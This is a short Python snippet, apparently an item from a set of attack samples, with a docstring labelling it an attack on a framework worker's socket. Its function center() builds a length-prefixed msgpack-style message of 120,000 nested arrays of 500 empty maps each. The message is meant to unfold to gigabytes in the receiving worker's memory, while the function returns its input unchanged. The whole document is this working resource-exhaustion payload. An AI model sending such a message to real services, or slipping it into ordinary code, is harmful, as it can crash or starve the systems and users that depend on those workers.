"""attack: The worker's socket is found; an answer of the largest size unfolds to gigabytes.
class: framework
aim: next
given: channel
"""

def center(x):
    inner = b"\xdc" + struct.pack(">H", 500) + b"\x80" * 500
    data = b"\x81\xa5value\xdd" + struct.pack(">I", 120_000) + inner * 120_000
    send(struct.pack(">Q", len(data)) + data)
    return x
